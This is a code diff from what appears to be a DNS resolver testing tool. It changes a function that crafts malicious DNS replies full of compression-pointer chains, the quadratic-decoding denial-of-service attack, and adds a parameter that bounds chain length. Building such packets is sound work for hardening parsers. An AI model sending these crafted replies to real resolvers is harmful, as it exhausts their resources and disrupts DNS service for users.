@@ -116,12 +116,16 @@ def forged_dnskey_rrset(
 # -- raw-wire attacks ------------------------------------------------------------------
 
 
-def pointer_chain(query: Message, size: int = 65000, *, spread: bool = False) -> bytes:
+def pointer_chain(
+    query: Message, size: int = 65000, *, spread: bool = False, hops: int | None = None
+) -> bytes:
     """A reply whose names are long chains of compression pointers (the
-    quadratic-decoding attack).  The first answer record's rdata is a root
-    label followed by pointers each pointing two octets back; then CNAME
-    records whose owner and target point into the far end of that chain
-    (``spread``: into ever other places of it), until ``size`` octets."""
+    quadratic-decoding attack).  The first answer record's rdata (type NULL,
+    opaque) is a root label followed by pointers each pointing two octets
+    back -- with ``hops``, every ``hops``-th pointer points at the root label
+    again, so no name needs more than ``hops`` pointers; then CNAME records
+    whose owner and target point at the deepest pointer (``spread``: at ever
+    other pointers), until ``size`` octets."""
     q = query.question[0]
     out = bytearray(struct.pack("!HHHHHH", query.id, 0x8180, 1, 0, 0, 0))
     out += q.name.to_wire() + struct.pack("!HH", q.rrtype, q.rrclass)
@@ -133,12 +137,16 @@ def pointer_chain(query: Message, size: int = 65000, *, spread: bool = False) ->
     out += b"\x00"
     for k in range(chain_words):
         here = start + 1 + 2 * k
-        out += struct.pack("!H", 0xC000 | (here - 2 if k else start))
-    last = start + 2 * chain_words - 1  # the deepest pointer
+        restart = k == 0 or (hops is not None and k % hops == 0)
+        out += struct.pack("!H", 0xC000 | (start if restart else here - 2))
+    deepest = chain_words - 1
+    if hops is not None and chain_words >= hops:
+        deepest = (chain_words // hops) * hops - 1
+    last = start + 1 + 2 * deepest
     count = 1
     while len(out) + 14 <= size and count < 65535:
-        owner = last - 2 * ((count * 7919) % chain_words) if spread else last
-        target = last - 2 * ((count * 104729) % chain_words) if spread else last
+        owner = last - 2 * ((count * 7919) % (deepest + 1)) if spread else last
+        target = last - 2 * ((count * 104729) % (deepest + 1)) if spread else last
         out += struct.pack("!HHHIH", 0xC000 | owner, RRType.CNAME, 1, 0, 2)
         out += struct.pack("!H", 0xC000 | target)
         count += 1
